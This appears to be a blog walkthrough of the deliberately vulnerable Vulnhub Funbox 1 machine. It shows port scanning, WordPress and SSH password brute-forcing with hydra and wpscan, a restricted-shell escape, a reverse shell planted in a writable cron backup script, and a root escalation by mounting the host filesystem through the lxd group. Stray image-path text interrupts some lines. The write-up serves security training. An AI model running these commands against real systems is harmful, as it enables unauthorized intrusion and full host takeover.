walkthrough vulnhub funbox writeup

Funbox Walkthrough – Vulnhub – Writeup

Funbox 1 is an easy machine from Vulnhub that can be root within an hour. However, the exploit to get the root is quite interesting. If you haven’t done it by yourselves, I would suggest you do so. Now, let’s move towards “Funbox Walkthrough – Vulnhub – Writeup”.

Link to the machine: https://www.vulnhub.com/entry/funbox-1,518/

Walkthrough of Funbox Gaokao

Identify the target

As usual, I had to find the IP address of the target machine.

sudo netdiscover -i eth0 -r

Scan open ports

Next, I discovered the exposed services by scanning the open ports on the target machine.

sudo nmap -v -T4 -A -p- -oN nmap.log

There are FTP, SSH, HTTP and MYSQL services exposed on the target. Likewise, you can see that the HTTP is being redirected to funbox.fritz.box. Hence, we can add the hostname to our hosts file.sudo vi /etc/hosts

Enumerate web server

After I added the host, I got the a wordpress website.

Thus, I decided to enumerate it using wpscan.

wpscan --api-token $WPSCAN_KEY --url http://funbox.fritz.box/ --plugins-detection mixed -e -o wpscan.log

It didn’t find any vulnerable plugins. However, we got two usernames of which one could be of the linux user. Hence, I tried to bruteforce the users to find the password of wordpress.

wpscan --url http://funbox.fritz.box/ -P /home/kali/rockyou.txt -o wpusers.log

I tried the combination of joe to ftp and ssh, both worked. However, if you want to bruteforce those using hydra, you can do as follows.

hydra -l joe -P /home/kali/rockyou.txt ftp
hydra -l joe -P /home/kali/rockyou.txt ssh

Escalate privilege to user

Now that I have got foothold, I have to find another clue that would give me access to another user or the root. But, when I tried to execute any commands, it gave me -rbash error. This means, my default shell is restricted bash and I cannot execute most commands.

Nevertheless, I had access to the commands which and python3. So, I spawned a normal bash shell.

which python3
python3 -c 'import pty;pty.spawn("/bin/bash")'

Reference: https://www.hacknos.com/rbash-escape-rbash-restricted-shell-escape/

Then, I enumerated the files on the home directory of the user joe.

ls -al

There is a file mbox that had the following contents.cat mbox

Although it had some pretty good information, it could also take us to a rabbit hole. There can be some possibilities of what this means. First is that three might be a cron job running for the backup script. Hence, we could exploit it to somehow gain access. Next, we could get credentials from thebackup file. When I went to the directory of funny, I got the backup file and the backup script there.

ls -al /home
cd /home/funny
ls -al
cat .backup.sh

Looking at the script, the files of the directory /var/ww/html are backed up. When I visited the directory, I found out that the credentials of wordpress wasn’t what I was looking for. However, you can download the tar file and extract it to your local machine as follows.

scp joe@ .
tar -xf html.tar

You will find nothing important here.You can see that the permission of the .backup.sh file is quite open. Hence, we can modify the script as our liking. I decided to get the reverse shell. Thus, I modified it as follows.

vi .backup.sh
# tar -cf /home/funny/html.tar /var/www/html
bash -i >& /dev/tcp/ 0>&1

Then, I listened to the port 4444 on my local machine.

nc -nlvp 4444

After a few moment, I got the reverse connection.

Then I improved the shell. For more information, check this post: Upgrade to an intelligent reverse shell

Root Privilege Escalation

When I looked at the groups the user funny belonged to, I saw an entry of ‘lxd’. There is an exploit relating to this group.

Reference: https://book.hacktricks.xyz/linux-unix/privilege-escalation/interesting-groups-linux-pe/lxd-privilege-escalationHowever, to do the exploit, we must have lxd and lxc binary installed.


The binaries were present on the machine but not on the path. Hence, I exported the directory /snap/bin to the path for that shell session.

export PATH=$PATH:/snap/bin

Also, you can refer to my writeup of hacksudo 3 that has the same exploits.

Hacksudo 3 Walkthrough – Vulnhub – Writeup

On my target machine, I did the following.

# Install dependencies
sudo apt update
sudo apt install -y golang-go debootstrap rsync gpgsquashfs-tools

# Clone repo
go get -d -v github.com/lxc/distrobuilder

# Make distrobuilder
cd $HOME/go/src/github.com/lxc/distrobuilder

# Prepare the creation of alpine
mkdir -p $HOME/ContainerImages/alpine/
cd $HOME/ContainerImages/alpine/
wget https://raw.githubusercontent.com/lxc/lxc-ci/master/images/alpine.yaml

# Create the container
sudo /home/kali/go/bin/distrobuilder build-lxd alpine.yaml -o image.release=3.8

# Serve the directory
python3 -m http.server

Here, make sure you change your home directory name if you aren’t using this as root user.

On the target machine, I got the images and continued with the process. More details are on my other machines. You can search lxd or lxc in my website to get the posts.# Get the images

# Importimages
lxc image import lxd.tar.xz rootfs.squashfs --alias alpine
lxc image list # You can see your new imported image

# Initialze the container
lxc init alpine privesc -c security.privileged=true

Because of not having any storage pools, it fails. Thus, I had to initialize a new pool. Here, I used the default values without thinking anything.

lxd init

Then, I proceeded forward from the last failed command as follows.

lxc init alpine privesc -c security.privileged=true
lxc list # List containers# Mount the root '/' of host to /mnt/root of the container
lxc config device add privesc host-root disk source=/ path=/mnt/root recursive=true

# Start the container and spawn a shell in it
lxc start privesc
lxc exec privesc /bin/sh

At last I could my the root path ‘/’ of my host machine to the ‘/mnt/root’ of the container. Now, I could visit any path and change any files that requires root permission.

cd root
ls -al
cat flag.txt

0 0 votes
Article Rating
Notify of
Inline Feedbacks
View all comments